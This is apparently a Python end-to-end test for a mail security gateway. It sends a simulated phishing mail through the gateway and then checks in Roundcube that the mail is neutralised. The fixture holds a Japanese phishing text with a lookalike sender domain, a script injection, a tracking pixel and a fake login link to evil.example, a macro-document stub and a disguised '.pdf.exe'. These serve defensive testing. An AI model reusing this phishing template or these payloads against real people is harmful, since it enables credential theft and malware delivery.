"""A hostile mail on its way to an employee: what arrives is read in a webmail as people read it.

A Word file with a macro, a script in HTML, a program, an encrypted ZIP, a sender that looks like
ours; through the gateway with its real sandbox, into Dovecot, onto Roundcube's page.
"""

import email
import email.policy
import io
import shutil
import subprocess
import tempfile
import zipfile
from concurrent.futures import ThreadPoolExecutor
from email.policy import SMTP
from pathlib import Path

import pytest
from tests.engines.sanitize.samples.words import with_part
from tests.journeys import webmail
from tests.journeys.conftest import DESK, PHONE
from tests.journeys.pictures import take
from tests.mailgate.letters import letter
from tests.mailgate.world import OURS, Sink, Town

from sekisho.cli.confinement import Confined

pytestmark = [
    pytest.mark.journey,
    pytest.mark.skipif(bool(webmail.lacking()), reason=webmail.lacking() or "there is a webmail"),
    pytest.mark.skipif(shutil.which("7z") is None, reason="7z is not installed"),
]

SENDER = "kikaku@town.examp1e.lg.jp"  # 1 for l
PASSWORD = "Asagiri-2026"
BODY = """お世話になっております。企画課の山田です。

12月の会議の資料をお送りします。別紙は暗号化ZIPにしました。
パスワードは別のメールでお送りします。
"""
HTML = """<html><body><p>お世話になっております。企画課の山田です。</p>
<p>12月の会議の資料をお送りします。別紙は暗号化ZIPにしました。<br>パスワードは別のメールでお送りします。</p>
<p>出欠は<a href="http://evil.example/login">こちらの共有フォルダー</a>に御記入ください。</p>
<script>document.title='stolen';alert(1)</script><img src="http://evil.example/p.gif?u=hanako">
</body></html>"""
MACRO = "application/vnd.ms-word.document.macroEnabled.12"


def macro_document() -> bytes:
    return with_part(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "word/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        b"Sub AutoOpen()",
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def encrypted_zip(folder: Path) -> bytes:
    (folder / "別紙.txt").write_text("会議室は2階の第3会議室です。\n", "utf-8")
    command = ["7z", "a", f"-p{PASSWORD}", "-tzip", "-mem=AES256", "out.zip", "別紙.txt"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return (folder / "out.zip").read_bytes()


def hostile(folder: Path) -> bytes:
    shown = f"企画課 山田 <yamada@{OURS}>"
    message = letter(BODY, From=None, Subject="【至急】12月の会議資料", Message_ID="<h1@evil>")
    message["From"] = f'"{shown}" <{SENDER}>'
    message.add_alternative(HTML, "html")
    message.add_attachment(macro_document(), *MACRO.split("/"), filename="会議資料.docm")
    message.add_attachment(b"MZ" + bytes(200), "application", "pdf", filename="出欠票.pdf.exe")
    message.add_attachment(encrypted_zip(folder), "application", "zip", filename="別紙.zip")
    return message.as_bytes(policy=SMTP)


def password_mail() -> bytes:
    text = f"先ほどのファイルのパスワードは次のとおりです。\n\n{PASSWORD}\n"
    message = letter(text, From=None, Subject="パスワードのお知らせ", Message_ID="<h2@evil>")
    message["From"] = f"企画課 山田 <{SENDER}>"
    return message.as_bytes(policy=SMTP)


@pytest.fixture(scope="module")
def mails(tmp_path_factory):
    """The three mails that arrive: the hostile one made safe, the password, the opened file."""
    with ThreadPoolExecutor(1) as other:  # the browser's own loop may run in this thread
        found = other.submit(through_the_gateway, tmp_path_factory.mktemp("gate")).result()
    if not found:
        pytest.skip("this machine offers no sandbox: everything would be held")
    return found


def through_the_gateway(folder: Path) -> list[bytes]:
    with (
        Confined() as sandbox,
        Sink() as sink,
        Town(folder, sink.port, sandbox=sandbox, pair_minutes=60) as town,
    ):
        if not sandbox.layers:
            return []
        town.send(hostile(folder), sender=SENDER)
        town.settled(1)
        town.send(password_mail(), sender=SENDER)
        town.settled(3)
    return [data for _, _, data in sink.got]


@pytest.fixture
def read(mails, browser):
    """Return a function that opens the mail of a subject in the webmail and gives its page."""
    with tempfile.TemporaryDirectory(prefix="sekisho-webmail-") as name:
        folder = Path(name)
        folder.chmod(0o755)  # Dovecot's own users must reach its folders
        with (
            webmail.Mailboxes(folder / "dovecot") as boxes,
            webmail.Webmail(folder / "webmail", boxes.port) as shown,
        ):
            for data in mails:
                boxes.deliver("hanako", data)
            context = browser.new_context(viewport=DESK, locale="ja-JP")
            page = context.new_page()
            outside, dialogs = [], []
            page.on("request", lambda asked: outside.append(asked.url))
            page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
            shown.sign_in(page, "hanako")

            def opened(wanted: str, place: int = 0):
                page.goto(shown.url + "?_task=mail&_mbox=INBOX")
                at = [n for n, s in enumerate(shown.subjects(page)) if wanted in s]
                shown.read(page, at[place])
                return page

            yield opened
            assert dialogs == []
            assert [url for url in outside if not url.startswith(shown.url)] == []
            context.close()


def parts(data: bytes) -> dict[str, bytes]:
    message = email.message_from_bytes(data, policy=email.policy.default)
    found = {}
    for part in message.iter_attachments():
        content = part.get_content()
        found[part.get_filename()] = content.encode() if isinstance(content, str) else content
    return found


def test_the_hostile_mail_arrives_readable_and_safe(mails, read):
    page = read("12月の会議資料", place=1 - _newest_is_opened(mails))
    text = page.locator("#messagebody").inner_text()
    take(page, "webmail hostile")
    for words in (
        "【差出人に注意】",
        "town.examp1e.lg.jp",
        "企画課の山田です。",
        "関所からのお知らせ\n渡せなかった添付ファイルが 2 件あります。",
        "受付番号: 2026",
        "情報担当に申し出てください。",
        "出欠票.pdf.exe",
        "別紙.zip",
        "パスワード",
    ):
        assert words in text
    assert "alert(1)" not in text
    assert page.locator("#messagebody a[href*='evil']").count() == 0
    names = page.locator("#attachment-list .attachment-name").all_inner_texts()
    assert names == ["会議資料.docx"]
    safe = zipfile.ZipFile(io.BytesIO(parts(mails[0])["会議資料.docx"]))
    assert not any("vba" in name.lower() for name in safe.namelist())
    page.set_viewport_size(PHONE)
    take(page, "webmail hostile")


def test_the_file_behind_the_password_follows_opened(mails, read):
    page = read("12月の会議資料", place=_newest_is_opened(mails))
    take(page, "webmail opened")
    assert "【関所】先に届いたメール（受付番号" in page.locator("#messagebody").inner_text()
    assert "別紙.zip" in page.locator("#attachment-list").inner_text()
    opened = next(found for found in map(parts, mails) if "別紙.zip" in found)
    with zipfile.ZipFile(io.BytesIO(opened["別紙.zip"])) as packed:
        (name,) = packed.namelist()
        assert "第3会議室" in packed.read(name).decode("utf-8")
    assert not packed.infolist()[0].flag_bits & 1  # no longer encrypted


def _newest_is_opened(mails) -> int:
    """Return the place, among the mails of that subject, of the opened one: the newest is first."""
    same = [data for data in mails if b"h1@evil" in data]
    return 0 if "別紙.zip" in parts(same[-1]) else 1
